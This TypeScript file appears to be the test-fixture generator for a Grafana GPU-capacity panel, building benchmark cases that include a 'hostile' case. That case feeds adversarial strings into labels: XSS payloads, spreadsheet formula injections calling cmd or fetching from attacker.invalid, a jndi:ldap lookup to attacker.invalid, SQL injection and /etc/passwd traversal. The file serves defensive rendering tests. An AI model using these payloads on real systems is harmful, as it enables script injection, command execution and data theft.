import { type DataFrame, FieldType, toDataFrame } from "@grafana/data";
import { type BenchSeries, type DeploymentCase, deploymentSeries, frameOf, gpuSeries, timesUntil } from "./frames.ts";

/** Text that would do harm where it is taken for anything but text, by class; `n` makes each its own. */
const classes: readonly ((n: number) => string)[] = [
  (n) => `<script>window.__owned=${n}</script>`,
  (n) => `</script><script>window.__owned=${n}</script>`,
  (n) => `<img src=x onerror=window.__owned=${n}>`,
  (n) => `"><svg onload=window.__owned=${n}>`,
  (n) => `<svg><animate onbegin=window.__owned=${n} attributeName=x dur=1s>`,
  (n) => `<iframe srcdoc="<script>parent.__owned=${n}</script>">`,
  (n) => `<a href="javascript:window.__owned=${n}">more</a>`,
  (n) => `javascript:window.__owned=${n}//`,
  (n) => ` jAvAsCrIpT\t:window.__owned=${n}`,
  (n) => `data:text/html;base64,PHNjcmlwdD4ke${n}`,
  (n) => `=CMD|'/C calc'!A${n}`,
  (n) => `+1+cmd|'/C calc'!A${n}`,
  (n) => `-2+3+cmd|'/C calc'!A${n}`,
  (n) => `@SUM(1+${n})*cmd|'/C calc'!A0`,
  (n) => `\t=HYPERLINK("https://attacker.invalid/${n}","click")`,
  (n) => `\r=IMPORTXML("https://attacker.invalid/${n}","//a")`,
  (n) => `chat\u202e${n}\u202dtxt.exe`,
  (n) => `\u2067right to left\u2069 ${n}`,
  (n) => `zero\u200bwidth\u200c\u200d\ufeff${n}`,
  (n) => `${"z̷".repeat(200)}${n}`,
  (n) => `null\u0000byte${n}`,
  (n) => `\u001b[31mred\u001b[0m${n}`,
  (n) => `line\nbreak\r\n${n}`,
  (n) => `\${window.__owned=${n}}`,
  (n) => `{{constructor.constructor("window.__owned=${n}")()}}`,
  (n) => `\`;window.__owned=${n};\``,
  (n) => `');window.__owned=${n};//`,
  (n) => `"; DROP TABLE decisions; -- ${n}`,
  (n) => `\${jndi:ldap://attacker.invalid/${n}}`,
  (n) => `../../../../etc/passwd%00${n}`,
  (n) => `%3Cscript%3Ewindow.__owned%3D${n}%3C/script%3E`,
  (n) => `&lt;script&gt;window.__owned=${n}&lt;/script&gt;`,
  (n) => `<style>*{background:url(https://attacker.invalid/${n})}</style>`,
  (n) =>
    `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror='window.__owned=${n}'>">`,
  (n) => `<base href="https://attacker.invalid/${n}/">`,
  (n) => `<form action="javascript:window.__owned=${n}"><button>ok</button></form>`,
  (n) => `\ud800unpaired${n}`,
  (n) => `__proto__${n}`,
  (n) => `constructor${n}`,
  (n) => `${"x".repeat(10_240)}${n}`,
];

/** `count` different texts, the classes in turn. */
export const hostileTexts = (count: number): readonly string[] =>
  Array.from({ length: count }, (_, n) => classes[n % classes.length]?.(n) ?? "");

/** What a panel may be given. */
export const benchCases = ["live", "empty", "partial", "stale", "huge", "streaming", "hostile"] as const;
export type BenchCase = (typeof benchCases)[number];

export interface CaseOptions {
  /** Time of the newest sample. */
  readonly nowMs: number;
  /** The first of the hostile texts that names a deployment. */
  readonly firstText: number;
}

const stepMs = 10_000;
const points = 61;

const purchaseClasses = ["reserved", "on-demand", "spot"] as const;

const gpuOf = (node: string, row: number, gpu: number) => ({
  node,
  gpu: String(gpu),
  gpu_uuid: `GPU-${node}-${gpu}`,
  purchase_class: purchaseClasses[row % purchaseClasses.length] ?? "spot",
});

/** The last GPUs of a node hold nothing: one more with every node. */
const usedOf = (row: number, gpu: number): number =>
  gpu >= 8 - (row % 3) ? 0.01 : 0.6 + ((row * 3 + gpu * 5) % 8) / 20;

const fleet = (nodes: readonly string[], timesMs: readonly number[]): readonly BenchSeries[] =>
  nodes.flatMap((node, row) =>
    Array.from({ length: 8 }, (_, gpu) =>
      gpuSeries({
        labels: gpuOf(node, row, gpu),
        timesMs,
        memoryRatio: usedOf(row, gpu),
        utilizationRatio: usedOf(row, gpu) < 0.1 ? 0 : ((row * 7 + gpu * 3) % 10) / 10 + 0.05,
      }),
    ).flat(),
  );

const deployment = (changed: Partial<DeploymentCase> & Pick<DeploymentCase, "labels" | "timesMs">): DeploymentCase => ({
  perReplica: 1800,
  planned: 6,
  ready: 5,
  desired: 5,
  fullness: [0.5, 0.6],
  verdict: "hold",
  reason: "within-load-line",
  blockedBy: [],
  status: { severity: "none", source: "load", code: "covered" },
  limit: "decode-bandwidth",
  exhaustedDays: null,
  ...changed,
});

const named = (name: string) => ({ cluster: "eu-west", deployment: name });

const threeDeployments = (timesMs: readonly number[]): readonly DeploymentCase[] => [
  deployment({
    labels: named("chat-70b"),
    timesMs,
    ready: 4,
    desired: 6,
    fullness: [0.7, 1.12],
    verdict: "scale-up",
    reason: "demand-above-load-line",
    status: { severity: "warning", source: "load", code: "above-load-line" },
    limit: "kv-cache",
  }),
  deployment({ labels: named("assist-8b"), timesMs, perReplica: 5200 }),
  deployment({
    labels: named("code-34b"),
    timesMs,
    ready: 3,
    planned: 4,
    desired: 4,
    fullness: [0.6, 0.95],
    verdict: "hold",
    reason: "pool-exhausted",
    blockedBy: ["replicas-pending"],
    status: { severity: "critical", source: "verdict", code: "pool-exhausted" },
    limit: "pool",
    exhaustedDays: [3, 9],
  }),
];

/** Which nodes hold what, and that one of them stopped reporting. */
const nodes = (timesMs: readonly number[]): readonly BenchSeries[] => {
  const series = (metric: string, labels: BenchSeries["labels"], value: number): BenchSeries => ({
    metric: `loadline_${metric}`,
    labels,
    timesMs,
    values: timesMs.map(() => value),
  });
  return [
    series("node_replicas", { ...named("chat-70b"), node: "h100-0", pool: "h100" }, 4),
    series("node_replicas", { ...named("code-34b"), node: "h100-1", pool: "h100" }, 3),
    series("node_replicas", { ...named("assist-8b"), node: "l40s-0", pool: "l40s" }, 5),
    series(
      "node_problem_since_timestamp_seconds",
      { cluster: "eu-west", node: "h100-1", problem: "stale" },
      (timesMs.at(-1) ?? 0) / 1000 - 42,
    ),
  ];
};

const live = ({ nowMs }: CaseOptions): readonly BenchSeries[] => {
  const timesMs = timesUntil(nowMs, points, stepMs);
  return [
    ...threeDeployments(timesMs).flatMap(deploymentSeries),
    ...fleet(["h100-0", "h100-1", "l40s-0"], timesMs),
    ...nodes(timesMs),
  ];
};

/** Series that are missing, end early, have holes or a step of their own. */
const partial = ({ nowMs }: CaseOptions): readonly BenchSeries[] => {
  const all = live({ nowMs, firstText: 0 });
  const retained = all.filter(({ metric }) => !/capacity|cost|_lower|_upper|power/.test(metric));
  return retained.map((series, index) => {
    const holes = series.values.map((value, at) => (index % 4 === 1 && at % 20 < 5 ? Number.NaN : value));
    const cut = index % 7 === 3 ? 40 : series.timesMs.length;
    const every = index % 5 === 2 ? 3 : 1;
    const chosen = <T>(values: readonly T[]): readonly T[] => values.slice(0, cut).filter((_, at) => at % every === 0);
    return { ...series, timesMs: chosen(series.timesMs), values: chosen(holes) };
  });
};

const manyDeployments = 10_000;

const huge = ({ nowMs }: CaseOptions): readonly BenchSeries[] => {
  const timesMs = timesUntil(nowMs, 10, stepMs);
  const worst = Array.from({ length: 30 }, (_, index) =>
    deploymentSeries(
      deployment({ labels: named(`busy-${index}`), timesMs, fullness: [0.9, 1 + index / 50], limit: "kv-cache" }),
    ),
  ).flat();
  const others = Array.from({ length: manyDeployments - worst.length }, (_, index) => ({
    metric: "loadline_headroom_ratio",
    labels: named(`service-${index}`),
    timesMs,
    values: timesMs.map(() => (index % 97) / 97),
  }));
  return [
    ...worst,
    ...fleet(
      Array.from({ length: 64 }, (_, node) => `node-${node}`),
      timesMs.slice(-2),
    ),
    ...others,
  ];
};

/** Hostile texts, of which a case shows so many at a time: as many as the timeline draws. */
const hostileCount = 500;
const hostileDeployments = 24;

const hostile = ({ nowMs, firstText }: CaseOptions): readonly BenchSeries[] => {
  const timesMs = timesUntil(nowMs, 5, stepMs);
  const texts = hostileTexts(hostileCount);
  const text = (at: number): string => texts[at % texts.length] ?? "";
  const deployments = Array.from({ length: hostileDeployments }, (_, index) => {
    const at = firstText + index;
    return deploymentSeries(
      deployment({
        labels: { deployment: text(at), cluster: text(at + 1) },
        timesMs,
        fullness: [1, 1.1],
        verdict: text(at + 2),
        reason: text(at + 3),
        blockedBy: [text(at + 4)],
        status: { severity: text(at + 2), source: "load", code: text(at + 3) },
        limit: text(at + 5),
      }),
    );
  });
  const gpus = deployments.flatMap((_, index) => {
    const at = firstText + index;
    const labels = { node: text(at), gpu: text(at + 2), gpu_uuid: text(at + 3) };
    return gpuSeries({ labels, timesMs, memoryRatio: 1 / 2, utilizationRatio: 1 / 2 });
  });
  return [...deployments.flat(), ...gpus];
};

/** So many nodes, each with the means of its GPUs, which change from one step to the next. */
export const nodesOf = (count: number, nowMs: number): readonly DataFrame[] => {
  const timesMs = timesUntil(nowMs, 2, stepMs);
  const step = Math.floor(nowMs / stepMs);
  return Array.from({ length: count }, (_, row) =>
    gpuSeries({
      labels: { node: `node-${row}` },
      timesMs,
      memoryRatio: usedOf(row, (row + step) % 8),
      utilizationRatio: ((row + step) % 10) / 10,
    }),
  )
    .flat()
    .map(frameOf);
};

const minutes = 60_000;

const series: Readonly<Record<BenchCase, (options: CaseOptions) => readonly BenchSeries[]>> = {
  live,
  empty: () => [],
  partial,
  stale: ({ nowMs, firstText }) => live({ nowMs: nowMs - 5 * minutes, firstText }),
  huge,
  streaming: live,
  hostile,
};

/** Broken frames: without time, with text for numbers, of unequal length. */
const brokenFrames = (text: string): readonly DataFrame[] => [
  toDataFrame({ name: text, fields: [{ name: "loadline_ready_replicas", type: FieldType.number, values: [1, 2] }] }),
  toDataFrame({
    name: text,
    fields: [
      { name: "Time", type: FieldType.time, values: [null, "soon", Number.NaN, Number.POSITIVE_INFINITY] },
      { name: text, type: FieldType.number, labels: { deployment: text }, values: ["1", null] },
    ],
  }),
];

/** The frames of a case. */
export const caseFrames = (name: BenchCase, options: CaseOptions): readonly DataFrame[] => [
  ...series[name](options).map(frameOf),
  ...(name === "partial" || name === "hostile"
    ? brokenFrames(hostileTexts(hostileCount)[options.firstText] ?? "")
    : []),
];
